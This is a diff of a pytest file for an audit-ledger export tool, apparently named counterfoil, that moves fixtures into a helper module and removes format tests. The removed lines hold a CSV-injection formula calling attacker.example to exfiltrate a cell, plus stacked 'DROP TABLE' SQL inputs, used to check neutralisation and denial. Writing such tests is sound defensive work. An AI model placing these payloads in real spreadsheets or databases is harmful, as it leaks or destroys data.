@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import importlib
 import json
 import sqlite3
 from collections.abc import Callable, Iterator
@@ -11,10 +9,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from jsonschema import Draft202012Validator
 
 from counterfoil.cli import main
-from counterfoil.core.columns import CLOSED, EXECUTABLE, OPENED, neutral
 from counterfoil.core.tree import Frontier
 from counterfoil.errors import LedgerCorrupt, LedgerUnavailable
 from counterfoil.ledger.bulk import Bulk
@@ -22,33 +18,19 @@ from counterfoil.ledger.client import LedgerClient
 from counterfoil.ledger.keys import load_master, read_verifier_key
 from counterfoil.ledger.reader import Reader
 from counterfoil.ledger.sealing import Master
-from deployment import Deployment, deployed
-from evidence import ROOT
-from service import sql_request
-
-FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"ok")'
-VECTORS = ROOT / "tests" / "vectors"
+from deployment import Deployment
+from exporting import FORMULA, Export, auditor_arguments, checked, exportable, exporter, lines
 
 
 @pytest.fixture(scope="module")
 def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
-    with deployed(tmp_path_factory.mktemp("export")) as started:
-        for tenant in (started.acme, started.globex):
-            run = started.opened(tenant, prompt=FORMULA)["access_token"]
-            allowed = started.ask(run)["decision_id"]
-            started.call("POST", f"/decisions/{allowed}/outcome", run, {"status": "ok"})
-            started.call("POST", "/authorize", run, sql_request("DROP TABLE public.invoices", None))
-            started.call(
-                "POST", "/authorize", run, sql_request("SELECT 1; DROP TABLE secret", None)
-            )
+    with exportable(tmp_path_factory.mktemp("export")) as started:
         yield started
 
 
 @pytest.fixture
 def auditor(deployment: Deployment, tmp_path: Path) -> list[str]:
-    token = tmp_path / "auditor.jwt"
-    token.write_text(deployment.acme.person("carol", ["compliance"]))
-    return ["--token-file", str(token), "--config", str(deployment.folder / "counterfoil.toml")]
+    return auditor_arguments(deployment, tmp_path)
 
 
 @pytest.fixture(autouse=True)
@@ -58,28 +40,9 @@ def _socket(deployment: Deployment, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("COUNTERFOIL_SERVER__RUN_DIRECTORY", directory)
 
 
-Export = Callable[..., tuple[Path, dict[str, Any]]]
-
-
 @pytest.fixture
 def export(auditor: list[str], tmp_path: Path) -> Export:
-    def exported(name: str, *arguments: str) -> tuple[Path, dict[str, Any]]:
-        path = tmp_path / name
-        assert main(["export", "--output", str(path), *arguments, *auditor]) == 0
-        manifest = json.loads((tmp_path / f"{name}.manifest.json").read_text())
-        return path, manifest["manifest"]
-
-    return exported
-
-
-def checked(deployment: Deployment, path: Path) -> int:
-    key = deployment.service.keys / "receipt.pub"
-    manifest = path.with_name(path.name + ".manifest.json")
-    return main(["verify", str(manifest), f"--key={key}"])
-
-
-def lines(path: Path) -> list[dict[str, Any]]:
-    return [json.loads(line) for line in path.read_text().splitlines()]
+    return exporter(auditor, tmp_path)
 
 
 def test_a_whole_export_is_checked_with_the_public_key_alone(
@@ -191,12 +154,6 @@ def test_what_was_broken_off_goes_on_and_is_the_same_file(  # noqa: PLR0917 -- f
     assert not partial.with_name("b.jsonl.partial.json").exists()
 
 
-def test_the_columns_are_those_of_the_documentation() -> None:
-    words = (ROOT / "docs" / "auditing.md").read_text().split()
-    for columns in (CLOSED, OPENED):
-        assert f"`{' '.join(columns)}`" in " ".join(words)
-
-
 def test_a_file_is_never_replaced(export: Export, tmp_path: Path, auditor: list[str]) -> None:
     path, _ = export("once.jsonl")
     before = path.read_bytes()
@@ -236,110 +193,6 @@ def test_only_an_auditor_exports_and_only_their_tenant(
         assert exit_code == 1
         assert list(tmp_path.iterdir()) == [tmp_path / "token"]
         assert code in capsys.readouterr().err.lower()
-
-
-def test_no_cell_of_csv_is_a_formula(export: Export) -> None:
-    path, manifest = export("all.csv", "--format", "csv", "--open")
-    with path.open(newline="") as file:
-        rows = list(csv.DictReader(file))
-    assert len(rows) == manifest["records"]
-    assert list(rows[0]) == [*CLOSED, *OPENED]
-    assert f"'{FORMULA}" in {row["prompt"] for row in rows}
-    for row in rows:
-        for cell in row.values():
-            assert not cell.lstrip(" ").startswith(EXECUTABLE), cell
-
-
-@pytest.mark.parametrize("start", [*EXECUTABLE, "  =", " \t@"])
-def test_each_start_that_a_spreadsheet_executes_is_neutralised(start: str) -> None:
-    assert neutral(start + "1+1") == f"'{start}1+1"
-    assert neutral("a" + start) == "a" + start  # control
-
-
-@pytest.mark.parametrize(("flag", "version"), [("1.8", "1.8.0"), ("1.9", "1.9.0-dev")])
-@pytest.mark.parametrize("opened", [True, False])
-def test_ocsf_is_valid_by_the_published_schema(
-    export: Export,
-    flag: str,
-    version: str,
-    opened: bool,  # noqa: FBT001
-) -> None:
-    name = f"ocsf_{version.replace('.', '_').replace('-', '_')}.json"
-    validator = Draft202012Validator(json.loads((VECTORS / name).read_text()))
-    more = ["--open"] if opened else []
-    path, manifest = export("o.jsonl", "--format", "ocsf", "--ocsf-version", flag, *more)
-    events = lines(path)
-    assert len(events) == manifest["records"] >= 3
-    for event in events:
-        assert [error.message for error in validator.iter_errors(event)] == []
-        assert event["metadata"]["version"] == version
-    standing = {e["status_detail"]: (e["action_id"], e["disposition_id"]) for e in events}
-    assert {(1, 1), (2, 2), (2, 14)} == set(standing.values())
-    for broken in ({**events[0], "made_up": 1}, {**events[0], "type_uid": "600301"}):
-        assert not validator.is_valid(broken)  # control: closed, and typed
-
-
-def test_cloudevents_are_unique_and_complete(export: Export) -> None:
-    path, manifest = export("c.jsonl", "--format", "cloudevents", "--open")
-    events = lines(path)
-    assert len({(event["source"], event["id"]) for event in events}) == manifest["records"]
-    for event in events:
-        assert event["specversion"] == "1.0"
-        assert event["type"] == f"io.counterfoil.{event['data']['leaf']['event']}.v1"
-        assert all(name.isalnum() and name == name.lower() for name in event)
-
-
-def test_otlp_lines_are_requests_of_log_records(export: Export) -> None:
-    path, manifest = export("l.jsonl", "--format", "otlp")
-    records = [
-        record
-        for request in lines(path)
-        for resource in request["resourceLogs"]
-        for scope in resource["scopeLogs"]
-        for record in scope["logRecords"]
-    ]
-    assert len(records) == manifest["records"]
-    assert {record["severityText"] for record in records} == {"INFO", "WARN"}
-    for record in records:
-        assert record["timeUnixNano"].isdigit()
-        names = {item["key"] for item in record["attributes"]}
-        assert "counterfoil.event_id" in names
-
-
-def test_parquet_has_the_right_types_for_another_reader(export: Export) -> None:
-    path, manifest = export("all.parquet", "--format", "parquet", "--open")
-    duckdb = importlib.import_module("duckdb")
-    table = duckdb.read_parquet(str(path))
-    types = dict(zip(table.columns, map(str, table.types), strict=True))
-    assert list(types) == [*CLOSED, *OPENED]
-    assert types["index"] == "BIGINT"
-    assert types["time"] == "TIMESTAMP WITH TIME ZONE"
-    assert types["reasons"] == "VARCHAR[]"
-    assert types["effect"] == "VARCHAR"
-    ((count, prompts),) = table.aggregate("count(*), count(prompt)").fetchall()
-    assert count == manifest["records"]
-    assert prompts > 0
-    denied = table.filter("effect = 'deny' AND time > '2026-01-01'")
-    (effects,) = denied.aggregate("count(*)").fetchall()
-    assert effects == (1,)
-
-
-def test_parquet_without_its_library_says_what_to_install(
-    tmp_path: Path,
-    auditor: list[str],
-    monkeypatch: pytest.MonkeyPatch,
-    capsys: pytest.CaptureFixture[str],
-) -> None:
-    def missing(name: str) -> Any:
-        if name.startswith("pyarrow"):
-            raise ModuleNotFoundError(name)
-        return real(name)
-
-    real = importlib.import_module
-    monkeypatch.setattr("counterfoil.cli.export_parquet.importlib.import_module", missing)
-    output = str(tmp_path / "x.parquet")
-    assert main(["export", "--format", "parquet", "--output", output, *auditor]) == 78
-    assert "counterfoil[parquet]" in capsys.readouterr().err
 
 
 def test_who_exported_what_is_recorded(deployment: Deployment, export: Export) -> None:
